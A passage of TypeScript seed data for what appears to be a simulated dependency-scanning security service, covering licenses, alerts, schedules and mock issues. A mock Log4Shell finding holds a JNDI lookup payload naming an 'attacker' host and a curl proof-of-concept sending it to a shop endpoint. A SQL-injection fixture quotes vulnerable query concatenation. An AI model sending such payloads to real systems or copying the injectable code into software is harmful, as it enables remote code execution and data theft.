  [KEV_REPO.id]: ['npm:express@4.21.2', 'npm:pino@9.5.0'],
};

// ---------- licenses ----------

/** A license entry as sca/licenses/search lists it, and the names of its packages (any version, any repository). */
interface LicenseRow {
  id: string;
  name: string;
  packages: readonly string[];
}

/**
 * The license entries, in the order the service lists them. Four kinds, as a real service mixes
 * them: an SPDX id as `id` (with the license's full name as `name`); an SPDX expression as `id`;
 * a service-internal `id` whose `name` is the SPDX id or expression (a client falls back to the
 * name); and what no SPDX expression describes (free text, NOASSERTION). MIT also takes every
 * package listed nowhere else. A package listed under two entries is evaluated for each.
 */
const LICENSE_ROWS: readonly LicenseRow[] = [
  // SPDX id as id
  { id: 'MIT', name: 'MIT License', packages: ['gopkg.in/yaml.v3'] },
  {
    id: 'Apache-2.0',
    name: 'Apache License 2.0',
    packages: [
      'org.apache.commons:commons-text',
      'org.apache.logging.log4j:log4j-core',
      'org.springframework:spring-beans',
      'com.fasterxml.jackson.core:jackson-databind',
      'com.google.guava:guava',
      'requests',
      'github.com/prometheus/client_golang',
      'gopkg.in/yaml.v3',
    ],
  },
  {
    id: 'BSD-3-Clause',
    name: 'BSD 3-Clause "New" or "Revised" License',
    packages: [
      'qs',
      'tough-cookie',
      '@sideway/formula',
      'jinja2',
      'werkzeug',
      'django',
      'numpy',
      'pandas',
      'scikit-learn',
      'golang.org/x/net',
      'golang.org/x/crypto',
    ],
  },
  { id: 'ISC', name: 'ISC License', packages: ['semver', 'glob-parent'] },
  { id: '0BSD', name: 'BSD Zero Clause License', packages: ['tslib'] },
  { id: 'MPL-2.0', name: 'Mozilla Public License 2.0', packages: ['certifi'] },
  { id: 'LGPL-2.1-or-later', name: 'GNU Lesser General Public License v2.1 or later', packages: ['chardet'] },
  { id: 'GPL-3.0-only', name: 'GNU General Public License v3.0 only', packages: ['ffmpeg-static'] },
  // SPDX expression as id
  { id: 'MIT OR Apache-2.0', name: 'MIT License or Apache License 2.0', packages: ['orjson'] },
  { id: 'MIT OR GPL-3.0-only', name: 'MIT License or GNU General Public License v3.0 only', packages: ['jszip'] },
  {
    id: 'GPL-2.0-only WITH Classpath-exception-2.0',
    name: 'GNU General Public License v2.0 only, with Classpath exception 2.0',
    packages: ['org.openjdk.nashorn:nashorn-core'],
  },
  // service-internal id: the SPDX id or expression is the name
  { id: 'lic_7f2a', name: 'BSD-2-Clause', packages: ['dotenv', 'nth-check', 'org.postgresql:postgresql'] },
  { id: 'lic_3c9e', name: 'Apache-2.0 OR BSD-3-Clause', packages: ['cryptography'] },
  { id: 'lic_b81d', name: 'EPL-1.0 OR LGPL-2.1-only', packages: ['ch.qos.logback:logback-core'] },
  // no SPDX expression at all: unknown to a license policy
  { id: 'lic_9c41', name: 'The Acme Commercial License', packages: ['com.acmesoft:acme-pdf'] },
  { id: 'NOASSERTION', name: 'NOASSERTION', packages: ['@acme/design-tokens'] },
];

/** The packages of acme/webshop and acme/clean-lib that tests of the license policy use, by case. */
export const LICENSE_FIXTURES = {
  /** acme/webshop, package.json: GPL-3.0-only. A violation under `deny-licenses: GPL-3.0-only` and under PERMISSIVE_LICENSES. */
  gpl: {
    ecosystem: 'npm',
    name: 'ffmpeg-static',
    version: '5.2.0',
    licenseId: 'GPL-3.0-only',
    expression: 'GPL-3.0-only',
  },
  /** acme/webshop, package-lock.json: `MIT OR GPL-3.0-only`. Fine under both policies (the MIT branch). */
  dual: {
    ecosystem: 'npm',
    name: 'jszip',
    version: '3.10.1',
    licenseId: 'MIT OR GPL-3.0-only',
    expression: 'MIT OR GPL-3.0-only',
  },
  /** acme/webshop, package.json: NOASSERTION (id and name). Unknown. */
  noAssertion: {
    ecosystem: 'npm',
    name: '@acme/design-tokens',
    version: '2.4.0',
    licenseId: 'NOASSERTION',
    expression: null,
  },
  /** acme/webshop, services/catalog/pom.xml: internal id, free-text name "The Acme Commercial License". Unknown. */
  freeText: {
    ecosystem: 'maven',
    name: 'com.acmesoft:acme-pdf',
    version: '4.1.2',
    licenseId: 'lic_9c41',
    expression: null,
  },
  /** acme/webshop, package.json: internal id lic_7f2a, the license in the name (BSD-2-Clause). */
  byName: { ecosystem: 'npm', name: 'dotenv', version: '16.3.1', licenseId: 'lic_7f2a', expression: 'BSD-2-Clause' },
  /** acme/webshop, services/catalog/pom.xml: an expression with WITH. Fine under the deny list, a violation under PERMISSIVE_LICENSES. */
  withException: {
    ecosystem: 'maven',
    name: 'org.openjdk.nashorn:nashorn-core',
    version: '15.4',
    licenseId: 'GPL-2.0-only WITH Classpath-exception-2.0',
    expression: 'GPL-2.0-only WITH Classpath-exception-2.0',
  },
  /** acme/webshop, services/recommender/requirements.txt: `MIT OR Apache-2.0`. */
  permissiveDual: {
    ecosystem: 'pypi',
    name: 'orjson',
    version: '3.9.10',
    licenseId: 'MIT OR Apache-2.0',
    expression: 'MIT OR Apache-2.0',
  },
  /** acme/webshop, services/gateway/go.mod: listed under two entries, MIT and Apache-2.0. */
  twoEntries: {
    ecosystem: 'golang',
    name: 'gopkg.in/yaml.v3',
    version: 'v3.0.0-20210107192922-496545a6307b',
    licenseIds: ['MIT', 'Apache-2.0'],
  },
} as const;

/** A permissive allow list; acme/clean-lib (MIT and 0BSD only) passes it, acme/webshop does not. */
export const PERMISSIVE_LICENSES = ['MIT', 'Apache-2.0', 'BSD-3-Clause', 'ISC', '0BSD'] as const;
/** The deny list of the demo's policy file (`npm run demo -- --policy`). */
export const DENIED_LICENSES = ['GPL-3.0-only', 'AGPL-3.0-only'] as const;

/**
 * What a license policy finds in acme/webshop, as `name@version`, sorted: `violations` for a
 * policy alone, `unknown` (NOASSERTION or no SPDX expression) for `unknown-licenses`. The same
 * packages for any `unknown-licenses`; `fail` makes the unknown ones violations too.
 */
export const MAIN_REPO_LICENSE_FINDINGS = {
  /** `deny-licenses: DENIED_LICENSES` (or GPL-3.0-only alone). */
  deny: {
    violations: ['ffmpeg-static@5.2.0'],
    unknown: ['@acme/design-tokens@2.4.0', 'com.acmesoft:acme-pdf@4.1.2'],
  },
  /** `allow-licenses: PERMISSIVE_LICENSES`. */
  allow: {
    violations: [
      'certifi@2023.7.22', // MPL-2.0
      'ch.qos.logback:logback-core@1.2.3', // EPL-1.0 OR LGPL-2.1-only
      'chardet@4.0.0', // LGPL-2.1-or-later
      'dotenv@16.3.1', // BSD-2-Clause
      'ffmpeg-static@5.2.0', // GPL-3.0-only
      'nth-check@1.0.2', // BSD-2-Clause
      'org.openjdk.nashorn:nashorn-core@15.4', // GPL-2.0-only WITH Classpath-exception-2.0
      'org.postgresql:postgresql@42.6.0', // BSD-2-Clause
    ],
    unknown: ['@acme/design-tokens@2.4.0', 'com.acmesoft:acme-pdf@4.1.2'],
  },
} as const;

function parsePackage(spec: string): PackageRef {
  const colon = spec.indexOf(':');
  const at = spec.lastIndexOf('@');
  return { ecosystem: spec.slice(0, colon) as Ecosystem, name: spec.slice(colon + 1, at), version: spec.slice(at + 1) };
}

/** GitHub's ecosystem words (its advisory database's REST API) for the simulator's ecosystems. */
const GITHUB_ECOSYSTEM: Record<Ecosystem, string> = { npm: 'npm', maven: 'maven', pypi: 'pip', golang: 'go' };

/**
 * GitHub's global advisories of the service's alerts, as the fake GitHub serves them (the Fix
 * column's source): each row's package, affected up to the fixed version (or the alerted version
 * when none is published), and that fixed version.
 */
export function serviceAdvisoryFacts(): Map<string, AdvisoryFacts> {
  const word = (severity: string | null | undefined, score: number | null | undefined): AdvisoryFacts['severity'] => {
    const w = severity?.toLowerCase();
    if (w === 'critical' || w === 'high' || w === 'medium' || w === 'low') return w;
    if (w === 'moderate') return 'medium';
    if (typeof score !== 'number') return 'unknown';
    return score >= 9 ? 'critical' : score >= 7 ? 'high' : score >= 4 ? 'medium' : score > 0 ? 'low' : 'unknown';
  };
  return new Map(
    ADVISORY_ROWS.map(([ghsa, cve, pkg, severity, score, fixedIn, , summary]): [string, AdvisoryFacts] => {
      const ref = parsePackage(pkg);
      const range = fixedIn ? `< ${fixedIn}` : `<= ${ref.version}`;
      return [
        ghsa,
        {
          cve,
          severity: word(severity, score),
          summary,
          affects: { ecosystem: GITHUB_ECOSYSTEM[ref.ecosystem], name: ref.name, range, patched: fixedIn },
        },
      ];
    }),
  );
}

/** A package URL (purl) as SCA tools print it: maven group/artifact, npm scope `@` encoded as %40. */
function packageUrl({ ecosystem, name, version }: PackageRef): string {
  const path = ecosystem === 'maven' ? name.replace(':', '/') : name.replace(/^@/, '%40');
  return `pkg:${ecosystem}/${path}@${version}`;
}

/** The line a dependency occupies in its manifest, from its position there and the manifest's format. */
function manifestLocation(path: string, index: number, ref: PackageRef) {
  const file = path.slice(path.lastIndexOf('/') + 1);
  switch (file) {
    case 'package.json': {
      const line = 14 + index;
      return { line, endLine: line, column: 5, endColumn: 5 + `"${ref.name}": "^${ref.version}",`.length };
    }
    case 'package-lock.json': {
      const line = 40 + index * 12;
      return { line, endLine: line + 10, column: 5, endColumn: 6 };
    }
    case 'pom.xml': {
      const line = 48 + index * 5;
      return { line, endLine: line + 4, column: 9, endColumn: 22 };
    }
    case 'requirements.txt':
      return { line: index + 1, endLine: index + 1, column: 1, endColumn: 1 + `${ref.name}==${ref.version}`.length };
    default: {
      // go.mod: one line per module inside the require ( ... ) block
      const line = 6 + index;
      return { line, endLine: line, column: 2, endColumn: 2 + `${ref.name} ${ref.version}`.length };
    }
  }
}

/** A stable 40-hex commit per repository (sha1 of its id: deterministic, not random). */
export function commitShaOf(repositoryId: string): string {
  return createHash('sha1').update(`commit:${repositoryId}`).digest('hex');
}

/** Builds the packages of every repository, in manifest order, de-duplicated on ecosystem/name/version. */
function buildPackages(repositories: Repository[], refsByRepo: Map<string, PackageRef[]>): ScaPackage[] {
  const packages: ScaPackage[] = [];
  for (const repository of repositories) {
    const seen = new Set<string>();
    const perManifest = new Map<string, number>();
    const short = repository.id.replace(/^repo_/, '');
    for (const ref of refsByRepo.get(repository.id) ?? []) {
      const key = `${ref.ecosystem}:${ref.name}@${ref.version}`;
      if (seen.has(key)) continue;
      seen.add(key);
      const manifests = MANIFESTS[repository.id]?.[ref.ecosystem];
      if (!manifests) throw new Error(`no ${ref.ecosystem} manifest for ${repository.id}`);
      const direct = ref.ecosystem !== 'npm' || DIRECT_NPM.has(ref.name);
      const manifestPath = direct ? manifests.direct : manifests.transitive;
      const index = perManifest.get(manifestPath) ?? 0;
      perManifest.set(manifestPath, index + 1);
      const at = manifestLocation(manifestPath, index, ref);
      packages.push({
        id: `pkg_${short}_${String(packages.length + 1).padStart(3, '0')}`,
        name: ref.name,
        version: ref.version,
        ecosystem: ref.ecosystem,
        manifestPath,
        manifestStartLine: at.line,
        manifestEndLine: at.endLine,
        manifestStartColumn: at.column,
        manifestEndColumn: at.endColumn,
        repositoryId: repository.id,
        repositoryName: repository.repositoryName,
        branch: repository.defaultBranch,
        commitSha: commitShaOf(repository.id),
        count: 1,
        items: [{ manifestPath, dependencyType: direct ? 'direct' : 'transitive', scope: 'runtime' }],
      });
    }
  }
  return packages;
}

/** The license entries with the ids of their packages; MIT takes every package no entry names. */
function buildLicenses(packages: ScaPackage[]): SimLicense[] {
  const named = new Set(LICENSE_ROWS.flatMap((row) => row.packages));
  return LICENSE_ROWS.map(({ id, name, packages: names }) => ({
    id,
    name,
    packageIds: packages.filter((p) => names.includes(p.name) || (id === 'MIT' && !named.has(p.name))).map((p) => p.id),
  }));
}

// ---------- alerts ----------

const DAY_MS = 86_400_000;
/** First alert creation time; later alerts follow every ~2.2 days, each updated some days later. */
const FIRST_ALERT_AT = Date.UTC(2025, 0, 6, 9, 15);

function reachabilityCounts(reach: Reach, i: number): ScaAlert['reachabilityCounts'] {
  switch (reach) {
    case 'r':
      return { reachable: 1 + (i % 3), needsReview: i % 2, unreachable: i % 4 };
    case 'n':
      return { reachable: 0, needsReview: 1 + (i % 2), unreachable: i % 3 };
    case 'u':
      return { reachable: 0, needsReview: 0, unreachable: 1 + (i % 3) };
    case '0':
      return { reachable: 0, needsReview: 0, unreachable: 0 };
    case 'x':
      return null;
  }
}

const LANGUAGE_OF: Record<Ecosystem, string> = { npm: 'javascript', maven: 'java', pypi: 'python', golang: 'go' };

function registryPage({ ecosystem, name }: PackageRef): string {
  switch (ecosystem) {
    case 'npm':
      return `https://www.npmjs.com/package/${name}`;
    case 'maven':
      return `https://central.sonatype.com/artifact/${name.replace(':', '/')}`;
    case 'pypi':
      return `https://pypi.org/project/${name}/`;
    case 'golang':
      return `https://pkg.go.dev/${name}`;
  }
}

function description(row: AdvisoryRow, ref: PackageRef): string {
  const [, cve, , , , fixedIn, , summary] = row;
  const fix = fixedIn
    ? `Upgrade ${ref.name} to ${fixedIn} or later.`
    : `No patched version of ${ref.name} is available; replace the package or mitigate the affected code path.`;
  return `${summary}. Versions of ${ref.name} up to and including ${ref.version} are affected (${cve}). ${fix}`;
}

function buildAlert(
  row: AdvisoryRow,
  ref: PackageRef,
  reach: Reach,
  id: string,
  i: number,
  flags: Flags = {},
): ScaAlert {
  const [ghsa, cve, , severity, score, , , summary] = row;
  const createdAt = FIRST_ALERT_AT + i * 53 * 3_600_000 + (i % 7) * 13 * 60_000;
  const counts = reachabilityCounts(reach, i);
  const metadata: ScaAlert['metadata'] = {
    id: ghsa,
    packageIdentifier: flags.plain ? `${ref.name}@${ref.version}` : packageUrl(ref),
    summary,
    description: description(row, ref),
    aliases: [cve],
    references: [`https://github.com/advisories/${ghsa}`, `https://nvd.nist.gov/vuln/detail/${cve}`, registryPage(ref)],
  };
  // Absent (undefined) fields are left out of the object, as a real response would omit them.
  if (score !== undefined) metadata.severityScore = score;
  if (severity !== undefined) metadata.severity = severity;
  const language = LANGUAGE_OF[ref.ecosystem];
  return {
    id,
    isAlerted: !flags.muted,
    createdAt: new Date(createdAt).toISOString(),
    updatedAt: new Date(createdAt + (1 + ((i * 11) % 30)) * DAY_MS).toISOString(),
    metadata,
    // Languages come from the reachability analysis: none when it did not run.
    languages: counts === null ? [] : ref.ecosystem === 'npm' && i % 3 === 0 ? [language, 'typescript'] : [language],
    reachabilityCounts: counts,
  };
}

// ---------- repositories, schedules, issues ----------

function githubRepository(
  repo: typeof MAIN_REPO | typeof CLEAN_REPO | typeof UNSCHEDULED_REPO | typeof KEV_REPO,
  defaultBranch: string,
): Repository {
  return {
    id: repo.id,
    repositoryUrl: repo.url,
    repositoryName: repo.name,
    defaultBranch,
    github: {
      githubAppInstallationId: APP_ID,
      externalGithubRepositoryId: repo.externalId,
      externalGithubAppInstallationId: APP_ID,
    },
  };
}

function buildRepositories(): Repository[] {
  return [
    githubRepository(MAIN_REPO, 'main'),
    githubRepository(CLEAN_REPO, 'main'),
    githubRepository(UNSCHEDULED_REPO, 'master'),
    {
      id: GITLAB_REPO.id,
      repositoryUrl: GITLAB_REPO.url,
      repositoryName: GITLAB_REPO.name,
      defaultBranch: 'main',
      gitlab: { gitlabInstallationId: GITLAB_INSTALLATION_ID, externalGitlabProjectId: GITLAB_REPO.externalId },
    },
    {
      id: BITBUCKET_REPO.id,
      repositoryUrl: BITBUCKET_REPO.url,
      repositoryName: BITBUCKET_REPO.name,
      defaultBranch: 'master',
      bitbucket: {
        bitbucketInstallationId: BITBUCKET_INSTALLATION_ID,
        externalBitbucketRepositoryId: BITBUCKET_REPO.externalId,
      },
    },
    githubRepository(KEV_REPO, 'main'),
  ];
}

function schedule(repoId: string, crontab: string, isEnabled: boolean, scans: number): Schedule {
  const short = repoId.replace(/^repo_/, '');
  return {
    id: `sched_${short}`,
    repoId,
    executionCriteriaCrontab: crontab,
    isEnabled,
    createdAt: '2024-11-04T10:00:00.000Z',
    updatedAt: '2025-05-19T08:30:00.000Z',
    codeScans: Array.from({ length: scans }, (_, i) => `scan_${short}_${String(i + 1).padStart(4, '0')}`),
    stagedCodeScans: isEnabled && scans > 0 ? [`scan_${short}_staged_0001`] : [],
  };
}

function buildSchedules(): Record<string, Schedule> {
  return {
    [MAIN_REPO.id]: schedule(MAIN_REPO.id, '0 2 * * 1-5', true, 3),
    [CLEAN_REPO.id]: schedule(CLEAN_REPO.id, '30 3 * * 0', false, 1),
    [GITLAB_REPO.id]: schedule(GITLAB_REPO.id, '0 */6 * * *', true, 2),
    [BITBUCKET_REPO.id]: schedule(BITBUCKET_REPO.id, '15 1 * * *', true, 2),
    [KEV_REPO.id]: schedule(KEV_REPO.id, '0 6 * * 1', true, 1),
  };
}

function buildIssues(packages: ScaPackage[], log4shellAlertId: string): Record<string, Issue> {
  const log4j = packages.find((p) => p.repositoryId === MAIN_REPO.id && p.name.endsWith(':log4j-core'));
  const sha = commitShaOf(MAIN_REPO.id);
  const issueUrl = (id: string) => `https://security.example.com/app/issues/${id}`;
  const sca: Issue = {
    id: ISSUE_IDS.sca,
    repositoryId: MAIN_REPO.id,
    repositoryName: MAIN_REPO.name,
    status: 'open',
    generatedTitle: 'Remote code execution through Log4Shell in log4j-core 2.14.1',
    generatedDescription:
      'services/catalog logs the User-Agent header with log4j-core 2.14.1. A JNDI lookup string such as ' +
      '${jndi:ldap://attacker/a} in that header makes the logger fetch and run remote code (CVE-2021-44228).',
    language: 'java',
    vulnClass: 'Remote Code Execution',
    cwes: ['CWE-502', 'CWE-917', 'CWE-20'],
    vulnCategory: 'SCA',
    severity: 10,
    confidence: 95,
    score: 98,
    affectedFile: log4j?.manifestPath ?? 'services/catalog/pom.xml',
    sastCodeSegment:
      '<dependency>\n  <groupId>org.apache.logging.log4j</groupId>\n  <artifactId>log4j-core</artifactId>\n  <version>2.14.1</version>\n</dependency>',
    startLine: log4j?.manifestStartLine ?? 48,
    endLine: log4j?.manifestEndLine ?? 52,
    startColumn: 9,
    endColumn: 22,
    isPrBlocked: true,
    triagePhase: 'Finished',
    createdAt: '2025-01-08T14:02:11.000Z',
    updatedAt: '2025-03-02T09:45:00.000Z',
    url: issueUrl(ISSUE_IDS.sca),
    validated: 'CONFIRMED',
    validationSecurityAssessment: 'Reachable from the public /api/products endpoint through RequestLoggingFilter.',
    unpatchable: false,
    unpatchableReason: null,
    archivedAt: null,
    noLongerDetectedAt: null,
    noLongerDetectedReason: null,
    naturalLanguageRuleEvaluationId: null,
    naturalLanguageRuleViolationId: null,
    naturalLanguageRuleViolation: null,
    codeScan: { id: 'scan_webshop_0003', scanTargetBranchCommitSha: sha },
    closedBy: null,
    falsePositiveReason: null,
    falsePositiveAt: null,
    introducedBy: {
      contributorId: 'contrib_0192',
      userId: 'user_0192',
      name: 'Dana Whitfield',
      email: 'dana.whitfield@acme.example',
      platform: 'github',
      username: 'dwhitfield',
      profileUrl: 'https://github.com/dwhitfield',
      profileImageUrl: 'https://avatars.githubusercontent.com/u/1920001',
      lineStart: log4j?.manifestStartLine ?? 48,
      lineEnd: log4j?.manifestEndLine ?? 52,
      timestamp: '2021-06-14T16:20:00.000Z',
    },
    scaVulnerabilityAlertingGroupId: log4shellAlertId,
    scaReachabilityAnalyses: [
      {
        id: 'reach_log4shell_1',
        title: 'User-controlled header reaches Logger.info',
        description: 'RequestLoggingFilter passes the raw User-Agent header to Logger.info, which evaluates lookups.',
        confidence: 0.93,
        severity: 10,
        isFalsePositive: false,
        falsePositiveReasoning: '',
        pocCode: "curl -H 'User-Agent: ${jndi:ldap://127.0.0.1:1389/a}' https://shop.acme.example/api/products",
        vulnerabilityLocation: {
          id: 'loc_log4shell_1',
          filePath: 'services/catalog/src/main/java/com/acme/catalog/web/RequestLoggingFilter.java',
          snippet: 'log.info("request from {}", request.getHeader("User-Agent"));',
          language: 'java',
          startLine: 41,
          endLine: 41,
          startColumn: 9,
          endColumn: 71,
        },
        cvssScore: { id: 'cvss_log4shell', cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H', severity: 10 },
      },
      {
        id: 'reach_log4shell_2',
        title: 'Exception messages logged in OrderService',
        description: 'Exception messages that may contain user input are logged; lookups are evaluated in them too.',
        confidence: 0.61,
        severity: 8,
        isFalsePositive: false,
        falsePositiveReasoning: '',
        pocCode: '',
        vulnerabilityLocation: {
          id: 'loc_log4shell_2',
          filePath: 'services/catalog/src/main/java/com/acme/catalog/orders/OrderService.java',
          snippet: 'log.error("order failed: " + e.getMessage());',
          language: 'java',
          startLine: 88,
          endLine: 88,
          startColumn: 13,
          endColumn: 57,
        },
        cvssScore: { id: 'cvss_log4shell', cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H', severity: 10 },
      },
    ],
    patch: {
      id: 'patch_log4shell',
      prLink: 'https://github.com/acme/webshop/pull/318',
      prTitle: 'Upgrade log4j-core to 2.17.1',
      prDescription:
        'Upgrades org.apache.logging.log4j:log4j-core from 2.14.1 to 2.17.1 to fix CVE-2021-44228 and follow-ups.',
      gitDiff:
        '--- a/services/catalog/pom.xml\n+++ b/services/catalog/pom.xml\n@@ -51 +51 @@\n-      <version>2.14.1</version>\n+      <version>2.17.1</version>\n',
      pullRequestStatus: 'open',
      validated: 'CONFIRMED',
      createdAt: '2025-01-09T08:00:00.000Z',
      updatedAt: '2025-01-09T08:05:00.000Z',
    },
  };
  const sast: Issue = {
    id: ISSUE_IDS.sast,
    repositoryId: MAIN_REPO.id,
    status: 'open',
    generatedTitle: 'SQL injection in product search',
    generatedDescription:
      'The search term is concatenated into a JPQL query string instead of being bound as a parameter.',
    language: 'java',
    vulnClass: 'SQL Injection',
    cwes: ['CWE-89'],
    vulnCategory: 'SAST',
    severity: 8,
    affectedFile: 'services/catalog/src/main/java/com/acme/catalog/ProductRepository.java',
    sastCodeSegment: 'em.createQuery("SELECT p FROM Product p WHERE p.name LIKE \'%" + term + "%\'")',
    startLine: 57,
    endLine: 57,
    isPrBlocked: false,
    triagePhase: 'CodeGeneration',
    createdAt: '2025-02-17T11:30:00.000Z',
    updatedAt: '2025-02-17T11:30:00.000Z',
    url: issueUrl(ISSUE_IDS.sast),
  };
  const secret: Issue = {
    id: ISSUE_IDS.secret,
    repositoryId: MAIN_REPO.id,
    repositoryName: MAIN_REPO.name,
    status: 'falsePositive',
    generatedTitle: 'Hard-coded Stripe API key in test fixture',
    generatedDescription: 'A string shaped like a Stripe secret key is committed in a test fixture.',
    language: 'typescript',
    vulnClass: 'Hard-coded Secret',
    cwes: ['CWE-798'],
    vulnCategory: 'SECRETS',
    severity: 6,
    affectedFile: 'test/fixtures/payments.ts',
    sastCodeSegment: "export const STRIPE_KEY = 'sk_test_fixture_not_a_real_key';",
    startLine: 3,
    endLine: 3,
    isPrBlocked: false,
    triagePhase: 'Finished',
    createdAt: '2025-03-10T15:12:00.000Z',
    updatedAt: '2025-03-11T09:00:00.000Z',
    url: issueUrl(ISSUE_IDS.secret),
    falsePositiveReason: 'Test-mode placeholder, not a live key.',
    falsePositiveAt: '2025-03-11T09:00:00.000Z',
    stateChangeAuthor: 'dwhitfield',
    closedBy: { id: 'user_0192', name: 'Dana Whitfield', email: 'dana.whitfield@acme.example' },
  };
  return { [sca.id]: sca, [sast.id]: sast, [secret.id]: secret };
}

// ---------- pull requests and time ----------

/**
 * A pull request of acme/webshop that upgrades the packages behind its critical alerts (the demo's
 * `--fix-pr`): its base is the commit the service scanned, and GitHub's compare of base and head
 * is `fixPullRequestChanges()`.
 */
export const FIX_PR = {
  number: 318,
  base: commitShaOf(MAIN_REPO.id),
  head: createHash('sha1').update('fix-pr:acme/webshop').digest('hex'),
  /** `ecosystem:name@from` -> the version the pull request upgrades it to. */
  upgrades: [
    ['maven:org.apache.logging.log4j:log4j-core@2.14.1', '2.17.1'],
    ['maven:org.apache.commons:commons-text@1.9', '1.10.0'],
    ['maven:org.springframework:spring-beans@5.3.17', '5.3.18'],
    ['npm:minimist@1.2.5', '1.2.6'],
  ],
} as const;

/**
 * GitHub's compare of FIX_PR's base and head over `data`: each upgraded version removed from every
 * manifest of acme/webshop the package search lists it in (with the advisories of its alerts, as
 * GitHub lists them), the new version added there (with none).
 */
export function fixPullRequestChanges(data: SimData): CompareEntry[] {
  const alerts = data.alerts[MAIN_REPO.id] ?? [];
  return FIX_PR.upgrades.flatMap(([spec, to]) => {
    const from = parsePackage(spec);
    // An alert names its package by package URL, or as name@version (buildAlert's `plain`).
    const names = [packageUrl(from), `${from.name}@${from.version}`];
    const advisories = alerts
      .filter((a) => names.includes(a.metadata.packageIdentifier ?? ''))
      .map((a) => a.metadata.id);
    const manifests = data.packages
      .filter((p) => p.repositoryId === MAIN_REPO.id && p.name === from.name && p.version === from.version)
      .map((p) => p.manifestPath);
    return manifests.flatMap((manifest) => [
      compareEntry('removed', from, manifest, advisories),
      compareEntry('added', { ...from, version: to }, manifest),
    ]);
  });
}

/**
 * Alerts of acme/webshop made recent (the demo's `--grace`): advisory -> age in days at `now`. The
 * seeded alerts date from 2025; these show grace periods at work (`high=30`: two due, one overdue).
 */
export const RECENT_ALERTS: Readonly<Record<string, number>> = {
  'GHSA-3h5v-q93c-6h6q': 4, // ws, high: due in 26 days
  'GHSA-hrpp-h998-j3pp': 12, // qs, high: due in 18 days
  'GHSA-9wv6-86v2-598j': 45, // path-to-regexp, high: overdue for 15 days
  'GHSA-599f-7c49-w659': 2, // commons-text, critical: critical=0 gives no grace
};

/** `data` with the RECENT_ALERTS of acme/webshop created that many days before `now` (in place). */
export function withRecentAlerts(data: SimData, now: Date): SimData {
  for (const alert of data.alerts[MAIN_REPO.id] ?? []) {
    const age = RECENT_ALERTS[alert.metadata.id];
    if (age !== undefined) alert.createdAt = new Date(now.getTime() - age * DAY_MS).toISOString();
  }
  return data;
}

// ---------- assembly ----------

/** A fresh, fully independent copy of the seeded data set. */
export function defaultData(): SimData {
  const repositories = buildRepositories();
  const advisories = new Map(ADVISORY_ROWS.map((row) => [row[0], row]));
  const alerts: Record<string, ScaAlert[]> = Object.fromEntries(repositories.map((r) => [r.id, [] as ScaAlert[]]));
  const refsByRepo = new Map<string, PackageRef[]>(repositories.map((r) => [r.id, []]));
  let n = 0; // position across all alerts: spreads dates and reachability counts

  const webshopRows = ADVISORY_ROWS.filter((row) => row[6] !== '-');
  webshopRows.forEach((row, i) => {
    const ref = parsePackage(row[2]);
    const id = `alert_webshop_${String(i + 1).padStart(3, '0')}`;
    alerts[MAIN_REPO.id]!.push(buildAlert(row, ref, row[6] as Reach, id, n++, row[8]));
    refsByRepo.get(MAIN_REPO.id)!.push(ref);
  });
  for (const [repoId, rows] of Object.entries(OTHER_ALERTS)) {
    const short = repoId.replace(/^repo_/, '');
    rows.forEach(([ghsa, version, reach], i) => {
      const row = advisories.get(ghsa);
      if (!row) throw new Error(`unknown advisory ${ghsa}`);
      const ref = { ...parsePackage(row[2]), version };
      alerts[repoId]!.push(buildAlert(row, ref, reach, `alert_${short}_${String(i + 1).padStart(3, '0')}`, n++));
      refsByRepo.get(repoId)!.push(ref);
    });
  }
  for (const [repoId, specs] of Object.entries(CLEAN_PACKAGES))
    refsByRepo.get(repoId)!.push(...specs.map(parsePackage));

  const packages = buildPackages(repositories, refsByRepo);
  const log4shell = alerts[MAIN_REPO.id]!.find((a) => a.metadata.id === ADVISORIES.log4shell)!;
  return {
    organizationId: ORG_ID,
    repositories,
    alerts,
    packages,
    licenses: buildLicenses(packages),
    schedules: buildSchedules(),
    issues: buildIssues(packages, log4shell.id),
    referrals: [],
    settings: Object.fromEntries(
      repositories.map((r) => [
        r.id,
        { cweWhitelist: [], maxPrTimeoutMinutes: 30, isPrScanningEnabled: r.id !== CLEAN_REPO.id },
      ]),
    ),
  };
}
